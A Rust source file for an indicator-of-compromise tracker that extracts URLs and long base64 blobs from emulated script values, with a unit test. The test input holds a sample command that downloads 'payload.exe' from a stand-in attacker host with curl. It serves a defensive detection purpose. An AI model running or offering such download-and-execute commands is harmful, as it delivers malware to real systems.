use std::collections::BTreeSet;
use std::sync::OnceLock;

use regex::Regex;

const MAX_BASE64_IOCS: usize = 200;
const MIN_BASE64_LEN: usize = 200;

/// Intermediate indicators seen in values assigned during emulation, even if they never reach a
/// reported action.
#[derive(Debug, Default)]
pub struct IocTracker {
    urls: BTreeSet<String>,
    base64: BTreeSet<String>,
}

fn url_re() -> &'static Regex {
    static URL_RE: OnceLock<Regex> = OnceLock::new();
    URL_RE.get_or_init(|| {
        Regex::new(r#"(?i)\b(?:https?|ftp)://[^\s"'<>]+"#).expect("valid regex")
    })
}

fn base64_re() -> &'static Regex {
    static B64_RE: OnceLock<Regex> = OnceLock::new();
    B64_RE.get_or_init(|| {
        Regex::new(
            r"(?:[A-Za-z0-9+/]{4}){10,}(?:[A-Za-z0-9+/]{2}==|[A-Za-z0-9+/]{3}=|[A-Za-z0-9+/]{4})",
        )
        .expect("valid regex")
    })
}

impl IocTracker {
    pub fn scan(&mut self, text: &str) {
        for m in url_re().find_iter(text) {
            if self.urls.insert(m.as_str().to_string()) {
                log::debug!("intermediate IOC (URL): {}", m.as_str());
            }
        }
        if text.len() <= MIN_BASE64_LEN || self.base64.len() >= MAX_BASE64_IOCS {
            return;
        }
        for m in base64_re().find_iter(text) {
            if m.as_str().len() > MIN_BASE64_LEN && self.base64.len() < MAX_BASE64_IOCS {
                self.base64.insert(m.as_str().to_string());
            }
        }
    }

    pub fn all(&self) -> Vec<String> {
        self.urls.iter().chain(self.base64.iter()).cloned().collect()
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use pretty_assertions::assert_eq;

    #[test]
    fn records_urls_and_long_base64() {
        let mut iocs = IocTracker::default();
        iocs.scan("cmd /c curl http://evil.example/payload.exe -o x");
        let blob = "QUJD".repeat(60);
        iocs.scan(&blob);
        iocs.scan("QUJDREVG");
        assert_eq!(
            iocs.all(),
            vec!["http://evil.example/payload.exe".to_string(), blob]
        );
    }
}
